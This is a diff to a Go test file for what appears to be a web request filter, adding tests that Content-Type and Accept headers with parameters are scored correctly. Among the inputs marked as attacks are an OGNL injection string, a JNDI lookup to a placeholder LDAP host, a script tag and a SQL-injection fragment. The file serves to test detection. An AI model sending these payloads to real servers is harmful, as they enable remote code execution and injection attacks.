@@ -115,6 +115,8 @@ var exceptedCases = map[string][]exceptedCase{
 		{value: "x GET /admin HTTP/1.1", attack: true},
 		{value: "We support HTTP/2\r\n\r\n<html>", attack: true},
 	},
+	// Those of headers and files have tests of their own.
+	"media types": {{value: "text/html"}}, "accepted types": {{value: "text/html"}},
 }
 
 // A value that is no code of the language that a rule defends is no attack; whatever resembles it is one still.
@@ -149,6 +151,53 @@ func TestExceptionsAreForTextThatIsDecodedOnce(t *testing.T) {
 	} {
 		if v := judge(t, s, asked("POST", "/", body, "Content-Type: "+contentType), body); (v.score >= s.threshold) != attack {
 			t.Errorf("%s: %v", contentType, v)
+		}
+	}
+}
+
+// Media types with parameters are valid, and names of charsets are those of browsers.
+func TestMediaTypesWithParameters(t *testing.T) {
+	s := settingsOf(t, asIs)
+	for contentType, attack := range map[string]bool{
+		"application/json;charset=utf-8;":                                            false,
+		"application/json; odata.metadata=minimal":                                   false,
+		"application/json; odata.metadata=minimal; IEEE754Compatible=true":           false,
+		`application/ld+json; profile="https://www.w3.org/ns/activitystreams"`:       false,
+		"application/json; charset=utf8":                                             false,
+		"application/json ; charset=\"UTF-8\" ;":                                     false,
+		"text/plain; charset=us-ascii; format=flowed; delsp=yes":                     false,
+		"application/json; charset=latin1":                                           false,
+		"application/vnd.api+json; ext=\"https://jsonapi.org/ext/atomic\"":           false,
+		"application/json; charset=utf-7":                                            true,
+		"application/json; charset=utf-16le":                                         true,
+		"application/json; charset=ibm037":                                           true,
+		"application/json; charset=utf8; charset=ibm037":                             true,
+		"application/json; a=b c":                                                    true,
+		"application/json; garbage":                                                  true,
+		`application/json; a="%{(#a='multipart/form-data').(#b=@ognl.OgnlContext)}"`: true,
+		"application/json; a=${jndi:ldap://a.b/c}":                                   true,
+	} {
+		if v := judge(t, s, asked("POST", "/", "{}", "Content-Type: "+contentType), `{"a":1}`); (v.score >= s.threshold) != attack {
+			t.Errorf("%s: %v", contentType, v)
+		}
+	}
+	for accept, attack := range map[string]bool{
+		"": false,
+		`application/ld+json; profile="https://www.w3.org/ns/activitystreams"`:                                       false,
+		`application/activity+json, application/ld+json; profile="https://www.w3.org/ns/activitystreams", */*;q=0.1`: false,
+		"application/json;odata.metadata=minimal;q=0.9, text/html;":                                                  false,
+		`text/html; a="b,c"; q=1`:                        false,
+		"text/html;charset=utf8":                         false,
+		"text/html; charset=utf-16":                      true,
+		"text/html; charset=CP1026":                      true,
+		"<script>alert(1)</script>":                      true,
+		"text/html; a=${jndi:ldap://a.b/c}":              true,
+		`application/ld+json; profile="' or 1=1 -- <a>"`: true,
+	} {
+		x := asked("GET", "/", "")
+		x.In.Header.Set("Accept", accept)
+		if v := judge(t, s, x, ""); (v.score >= s.threshold) != attack {
+			t.Errorf("%s: %v", accept, v)
 		}
 	}
 }
